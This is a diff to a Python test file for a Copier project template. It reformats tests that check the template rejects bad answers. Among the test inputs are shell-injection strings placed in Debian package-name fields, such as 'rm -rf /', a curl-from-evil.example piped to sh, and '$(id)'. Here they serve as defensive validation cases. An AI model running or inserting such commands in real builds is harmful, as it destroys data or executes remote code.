@@ -14,7 +14,7 @@ COPIER = [sys.executable, "-m", "copier", "copy", "--trust", "--defaults", "--vc
 # Without Poetry on PATH the copy skips `poetry lock`: these tests are about answers only.
 NO_POETRY = tool_env(PATH="/usr/bin:/bin")
 
-BAD_ANSWERS = [
+BAD_ANSWERS: list[tuple[dict[str, Any], str]] = [
     ({"project_name": ""}, "project_name is required"),
     ({"project_slug": "my tool"}, "is not a valid distribution name"),
     ({"package_name": "my-tool"}, "is not a valid import name"),
@@ -35,7 +35,10 @@ BAD_ANSWERS = [
     ({"dependencies": ["pandas>>2"]}, "is not a PEP 508 requirement"),
     ({"dependencies": "pandas"}, "must be a YAML list of strings"),
     ({"apt_build_packages": ["; rm -rf /"]}, "is not a Debian package name"),
-    ({"apt_runtime_packages": ["libpq5 && curl evil.example | sh"]}, "is not a Debian package name"),
+    (
+        {"apt_runtime_packages": ["libpq5 && curl evil.example | sh"]},
+        "is not a Debian package name",
+    ),
     ({"apt_runtime_packages": ["$(id)"]}, "is not a Debian package name"),
     ({"package_index_url": "ftp://example.com/simple"}, "is not an http(s) URL"),
     ({"package_index_url": "https://user:s3cret@example.com/simple/"}, "--secret"),
@@ -62,8 +65,15 @@ def test_cli_refusal_names_the_question_and_leaves_an_existing_destination_empty
     dest = tmp_path / "dest"
     dest.mkdir()
     result = run(
-        [*COPIER, "--data", "project_name=My Tool",
-         "--data", 'apt_build_packages=["gcc; curl x | sh"]', TEMPLATE, dest],
+        [
+            *COPIER,
+            "--data",
+            "project_name=My Tool",
+            "--data",
+            'apt_build_packages=["gcc; curl x | sh"]',
+            TEMPLATE,
+            dest,
+        ],
         check=False,
         env=NO_POETRY,
     )
